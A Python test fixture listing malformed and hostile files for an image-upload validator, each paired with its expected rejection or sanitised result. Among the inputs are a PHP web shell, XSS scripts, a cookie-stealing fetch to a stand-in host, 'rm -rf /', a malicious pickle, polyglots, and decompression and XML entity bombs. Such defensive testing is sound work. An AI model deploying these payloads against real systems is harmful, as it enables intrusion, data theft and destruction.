"""Files as nobody should send them, each with what is to become of it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from grid_report.errors import GridReportError
from grid_report.media.errors import NotAPicture, PictureBroken, PictureTooManyPixels
from tests.support import pictures
from tests.support.pictures import (
    Rationals,
    chunk,
    encoded,
    exif_segment,
    jpeg_claiming,
    jpeg_segment,
    jpeg_with,
    png,
    png_with,
    scene,
    truncated,
)


@dataclass(frozen=True)
class Taken:
    """The file is a picture; it comes out at this size, with this position."""

    size: tuple[int, int] = (640, 480)
    position: tuple[float, float] | None = None


Make = Callable[[], bytes]
PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"<script>alert(document.cookie)</script>"


def plain() -> bytes:
    return encoded(scene(), "JPEG", quality=90)


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.php", PHP)
    return out.getvalue()


def text_bomb(name: bytes, head: bytes) -> bytes:
    return chunk(name, head + zlib.compress(b"\0" * 20_000_000, 9))


def animated(kind: str) -> bytes:
    return encoded(
        scene(), kind, save_all=True, append_images=[scene().rotate(180)] * 3, duration=50
    )


def gps(lat: Rationals, lng: Rationals, refs: bytes = b"NE") -> bytes:
    return jpeg_with([exif_segment(pictures.gps_exif(lat, lng, refs))], plain())


def whole(degrees: int, minutes: int = 0, seconds: int = 0) -> Rationals:
    return ((degrees, 1), (minutes, 1), (seconds, 1))


def adobe_cmyk(transform: int) -> bytes:
    """A CMYK JPEG as Photoshop writes it: inverted, with an Adobe segment of that transform."""
    data = encoded(scene(mode="CMYK"), "JPEG")
    at = data.index(b"Adobe") + 11
    return data[:at] + bytes((transform,)) + data[at + 1 :]


def with_second_header() -> bytes:
    """A PNG that says it is small, then says it is huge."""
    huge = struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)
    return png_with([chunk(b"IHDR", huge)])


def gif() -> bytes:
    return encoded(scene().convert("P"), "GIF")


def heic() -> bytes:
    return encoded(scene(), "HEIF")


def avif_box() -> bytes:
    return b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + b"\0" * 500


def lost_end(data: bytes, keep: float) -> bytes:
    """Cut it short and end it properly: a decoder fills the rest with grey and says nothing."""
    return truncated(data, keep, ending=b"\xff\xd9")


def cut(make: Make, percent: int, how: Callable[[bytes, float], bytes] = truncated) -> Make:
    """Make a file, later, and cut it short."""
    return lambda: how(make(), percent / 100)


NOT = NotAPicture
BROKEN = PictureBroken
PIXELS = PictureTooManyPixels

CASES: dict[str, tuple[Make, type[GridReportError] | Taken]] = {
    # nothing, or next to it
    "zero bytes": (lambda: b"", NOT),
    "one byte": (lambda: b"\xff", NOT),
    "two bytes of a JPEG": (lambda: b"\xff\xd8", NOT),
    "only the start of a JPEG": (lambda: b"\xff\xd8\xff", BROKEN),
    "start and end of a JPEG": (lambda: b"\xff\xd8\xff\xd9", BROKEN),
    "only the signature of a PNG": (lambda: b"\x89PNG\r\n\x1a\n", BROKEN),
    "only the header of a WebP": (lambda: b"RIFF\x04\0\0\0WEBP", BROKEN),
    "only the first box of a HEIC": (lambda: heic()[:28], BROKEN),
    "a megabyte of zeros": (lambda: b"\0" * 1_000_000, NOT),
    "a megabyte of noise": (lambda: bytes((i * 7919 >> 5) & 255 for i in range(1_000_000)), NOT),
    "a megabyte of FF": (lambda: b"\xff" * 1_000_000, NOT),
    "a JPEG start and a megabyte of FF": (lambda: b"\xff\xd8" + b"\xff" * 1_000_000, BROKEN),
    "a JPEG start and a hundred thousand segments": (
        lambda: b"\xff\xd8" + jpeg_segment(0xEF, b"") * 100_000 + b"\xff\xd9",
        BROKEN,
    ),
    # cut short
    **{
        f"JPEG cut at {percent} %": (
            cut(plain, percent),
            BROKEN,
        )
        for percent in (2, 10, 50, 90, 99)
    },
    "JPEG without its last byte": (lambda: plain()[:-1], BROKEN),
    "JPEG without its end": (lambda: plain()[:-2], BROKEN),
    **{
        f"JPEG cut at {percent} % and ended properly": (
            cut(plain, percent, lost_end),
            BROKEN,
        )
        for percent in (20, 50, 90)
    },
    "grey JPEG cut in half and ended properly": (
        lambda: lost_end(encoded(scene(mode="L"), "JPEG", quality=90), 0.5),
        BROKEN,
    ),
    "JPEG with restart markers cut in half and ended properly": (
        lambda: lost_end(encoded(scene(), "JPEG", quality=90, restart_marker_rows=1), 0.5),
        BROKEN,
    ),
    "big JPEG cut in half and ended properly": (
        lambda: lost_end(encoded(scene((4000, 3000)), "JPEG"), 0.5),
        BROKEN,
    ),
    "progressive JPEG cut in half": (
        lambda: truncated(encoded(scene(), "JPEG", progressive=True), 0.5),
        BROKEN,
    ),
    **{
        f"PNG cut at {percent} %": (
            cut(lambda: encoded(scene(), "PNG"), percent),
            BROKEN,
        )
        for percent in (5, 50, 95)
    },
    "PNG without its last chunk": (lambda: encoded(scene(), "PNG")[:-12], Taken()),
    **{
        f"WebP cut at {percent} %": (
            cut(lambda: encoded(scene(), "WEBP"), percent),
            BROKEN,
        )
        for percent in (5, 50, 99)
    },
    **{
        f"HEIC cut at {percent} %": (
            cut(heic, percent),
            BROKEN,
        )
        for percent in (20, 60, 99)
    },
    # an honest grey corner is no missing data
    "a picture that is all middle grey": (
        lambda: encoded(Image.new("RGB", (640, 480), (128, 128, 128)), "JPEG"),
        Taken(),
    ),
    "a grey picture that is all middle grey": (
        lambda: encoded(Image.new("L", (640, 480), 128), "JPEG", restart_marker_blocks=3),
        Taken(),
    ),
    # bombs
    "PNG of 400 megapixels in 50 KB": (lambda: png((20000, 20000), bits=1, colour=0), PIXELS),
    "PNG just above the limit": (lambda: png((8945, 8945), bits=1, colour=0), PIXELS),
    "PNG that claims 4 billion each way": (
        lambda: png((8, 8), claimed=(0xFFFFFFFF, 0xFFFFFFFF)),
        PIXELS,
    ),
    "PNG whose second header is huge": (with_second_header, PIXELS),
    "PNG one pixel high and 100 million wide": (
        lambda: png((8, 1), claimed=(100_000_000, 1)),
        PIXELS,
    ),
    "JPEG that claims 65500 each way": (lambda: jpeg_claiming((65500, 65500)), PIXELS),
    "JPEG that claims 80 megapixels and has half a one": (
        lambda: jpeg_claiming((8900, 8900)),
        BROKEN,
    ),
    "WebP with a canvas of 16384 each way": (
        lambda: pictures.webp_claiming((16384, 16384)),
        PIXELS,
    ),
    "WebP with a canvas that its picture does not fill": (
        lambda: pictures.webp_claiming((4000, 4000)),
        BROKEN,
    ),
    "PNG of 60 megapixels, all one colour": (
        lambda: encoded(Image.new("L", (10000, 6000), 90), "PNG"),
        Taken((2000, 1200)),
    ),
    "progressive JPEG of 17 megapixels": (
        lambda: encoded(Image.new("RGB", (5000, 3400)), "JPEG", progressive=True),
        Taken((1250, 850)),
    ),
    "PNG with a text bomb": (lambda: png_with([text_bomb(b"zTXt", b"k\0\0")]), BROKEN),
    "PNG with an international text bomb": (
        lambda: png_with([text_bomb(b"iTXt", b"k\0\1\0\0\0")]),
        BROKEN,
    ),
    "PNG with a profile bomb": (lambda: png_with([text_bomb(b"iCCP", b"k\0\0")]), BROKEN),
    "PNG with four megabytes of text": (
        lambda: png_with([chunk(b"tEXt", b"k\0" + b"SECRET-TEXT" * 400_000)]),
        Taken(),
    ),
    "PNG with a chunk that claims two gigabytes": (
        lambda: png_with([struct.pack(">I4s", 0x7FFFFFFF, b"tEXt")]),
        BROKEN,
    ),
    "PNG with a wrong checksum": (
        lambda: encoded(scene(), "PNG")[:29] + b"\0\0\0\0" + encoded(scene(), "PNG")[33:],
        BROKEN,
    ),
    "PNG without pixels": (lambda: png((64, 64), rows=b""), BROKEN),
    # Nobody lost these rows on the way: whoever made the file left them black.
    "PNG whose maker left half its rows out": (
        lambda: png((64, 64), rows=b"\0" * (193 * 32)),
        Taken((64, 64)),
    ),
    "PNG with far more rows than it claims": (
        lambda: png((64, 64), rows=b"\0" * (193 * 64_000)),
        Taken((64, 64)),
    ),
    # sizes that are none
    "JPEG of width zero": (lambda: jpeg_claiming((0, 480)), BROKEN),
    "JPEG of height zero": (lambda: jpeg_claiming((640, 0)), BROKEN),
    "PNG of no size": (lambda: png((0, 0)), BROKEN),
    "JPEG that claims to be taller": (lambda: jpeg_claiming((640, 960), plain()), BROKEN),
    "JPEG one pixel wide": (
        lambda: encoded(Image.new("RGB", (1, 3000)), "JPEG"),
        Taken((1, 1500)),
    ),
    "PNG one pixel high": (lambda: png((50_000, 1)), Taken((2000, 1))),
    # other things under a picture's name
    "HTML": (lambda: b"<!doctype html>" + SCRIPT, NOT),
    "SVG": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", NOT),
    "PHP": (lambda: PHP, NOT),
    "JavaScript": (lambda: b"fetch('//evil/'+document.cookie)", NOT),
    "PDF": (lambda: b"%PDF-1.7\n" + b"0" * 500, NOT),
    "EPS": (lambda: encoded(scene((64, 48)), "EPS"), NOT),
    "GIF": (gif, NOT),
    "GIF, animated": (lambda: animated("GIF"), NOT),
    "BMP": (lambda: encoded(scene(), "BMP"), NOT),
    "TIFF": (lambda: encoded(scene(), "TIFF"), NOT),
    "ICO": (lambda: encoded(scene((64, 64)), "ICO"), NOT),
    "PSD": (lambda: b"8BPS\0\1" + b"\0" * 500, NOT),
    "JPEG 2000": (lambda: b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 500, NOT),
    "AVIF": (avif_box, NOT),
    "MP4": (lambda: b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + b"\0" * 500, NOT),
    "WAV": (lambda: b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 500, NOT),
    "ZIP": (zipped, NOT),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", NOT),
    "a pickle": (lambda: b"cos\nsystem\n(S'true'\ntR.", NOT),
    "GIF and HTML at once": (lambda: b"GIF89a/*" + SCRIPT + b"*/=1;", NOT),
    "a line break, then a JPEG": (lambda: b"\n" + plain(), NOT),
    "a JPEG start, then PHP": (lambda: b"\xff\xd8\xff\xe0" + PHP, BROKEN),
    "a PNG start, then HTML": (lambda: b"\x89PNG\r\n\x1a\n" + SCRIPT * 10, BROKEN),
    "a WebP start, then HTML": (lambda: b"RIFF\xff\0\0\0WEBPVP8 " + SCRIPT * 10, BROKEN),
    "a HEIC start, then noise": (lambda: heic()[:100] + b"\x5a" * 2000, BROKEN),
    # both a picture and something else: the picture is kept, the rest is not
    "JPEG with PHP in its comment": (
        lambda: jpeg_with([jpeg_segment(0xFE, PHP)], plain()),
        Taken(),
    ),
    "JPEG with a script behind it": (lambda: plain() + SCRIPT, Taken()),
    "JPEG with a ZIP behind it": (lambda: plain() + zipped(), Taken()),
    "JPEG with another JPEG behind it": (lambda: plain() + plain(), Taken()),
    "PNG with PHP in its text": (lambda: png_with([chunk(b"tEXt", b"k\0" + PHP)]), Taken()),
    "PNG with a ZIP behind it": (lambda: encoded(scene(), "PNG") + zipped(), Taken()),
    "WebP with a script behind it": (lambda: encoded(scene(), "WEBP") + SCRIPT, Taken()),
    "JPEG of many pictures": (
        lambda: encoded(scene(), "MPO", save_all=True, append_images=[scene()] * 3),
        Taken(),
    ),
    "JPEG of many pictures with a broken index": (
        lambda: jpeg_with([jpeg_segment(0xE2, b"MPF\0II*\0\xff\xff\xff\xff")], plain()),
        Taken(),
    ),
    # pictures out of the ordinary
    "PNG, animated": (lambda: animated("PNG"), Taken()),
    "WebP, animated": (lambda: animated("WEBP"), Taken()),
    "PNG, interlaced": (
        lambda: png((2, 1), rows=b"\0\1\2\3\0\4\5\6").replace(
            chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 1, 8, 2, 0, 0, 0)),
            chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 1, 8, 2, 0, 0, 1)),
        ),
        Taken((2, 1)),
    ),
    "CMYK JPEG": (lambda: adobe_cmyk(0), Taken()),
    "CMYK JPEG said to be YCCK": (lambda: adobe_cmyk(2), Taken()),
    "PNG with an empty palette": (
        lambda: png((8, 8), colour=3, before=[chunk(b"PLTE", b"")]),
        Taken((8, 8)),
    ),
    "PNG with colours beyond its palette": (
        lambda: png(
            (8, 8), colour=3, before=[chunk(b"PLTE", b"\1\2\3")], rows=(b"\0" + b"\xfe" * 8) * 8
        ),
        Taken((8, 8)),
    ),
    # metadata that lies; the pixels count
    "huge Exif, 60 KB": (
        lambda: jpeg_with([exif_segment(b"II*\0\x08\0\0\0" + b"\xff" * 60_000)], plain()),
        Taken(),
    ),
    "Exif in a hundred segments": (
        lambda: jpeg_with([exif_segment(b"II*\0\x08\0\0\0" + b"\xff" * 60_000)] * 100, plain()),
        Taken(),
    ),
    "Exif that is noise": (lambda: jpeg_with([exif_segment(b"\x13\x37" * 500)], plain()), Taken()),
    "Exif that points at itself": (
        lambda: jpeg_with(
            [exif_segment(pictures.one_tag_exif(0x8825, 4, 1, struct.pack("<I", 8)))], plain()
        ),
        Taken(),
    ),
    "Exif that points nowhere": (
        lambda: jpeg_with([exif_segment(b"II*\0\xff\xff\xff\xff")], plain()),
        Taken(),
    ),
    "Exif with a count of four billion": (
        lambda: jpeg_with(
            [exif_segment(pictures.one_tag_exif(0x9003, 2, 0xFFFFFFFF, b"\0\0\0\0"))], plain()
        ),
        Taken(),
    ),
    "position on the equator at 0, 0": (lambda: gps(whole(0), whole(0)), Taken()),
    "position that is no number": (lambda: gps(((0, 0),) * 3, ((0, 0),) * 3), Taken()),
    "position that is infinite": (lambda: gps(((1, 0),) * 3, ((1, 0),) * 3), Taken()),
    "position beyond the pole": (lambda: gps(whole(91), whole(124)), Taken()),
    "position beyond the date line": (lambda: gps(whole(42), whole(181)), Taken()),
    "position with 99 minutes": (lambda: gps(whole(42, 99), whole(124)), Taken()),
    "position east of north": (lambda: gps(whole(42), whole(124), b"EN"), Taken()),
    "position of a believable kind": (
        lambda: gps(whole(42, 30), whole(124, 15), b"SW"),
        Taken(position=(-42.5, -124.25)),
    ),
    "XMP that is a bomb of entities": (
        lambda: jpeg_with(
            [
                jpeg_segment(
                    0xE1,
                    b"http://ns.adobe.com/xap/1.0/\0<!DOCTYPE x [<!ENTITY a '"
                    + b"aaaaaaaaaa" * 500
                    + b"'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]><x>&b;&b;&b;</x>",
                )
            ],
            plain(),
        ),
        Taken(),
    ),
    "XMP whose orientation is 6 where Exif has none": (
        lambda: jpeg_with(
            [jpeg_segment(0xE1, b'http://ns.adobe.com/xap/1.0/\0<x tiff:Orientation="6"/>')],
            plain(),
        ),
        Taken((480, 640)),
    ),
}
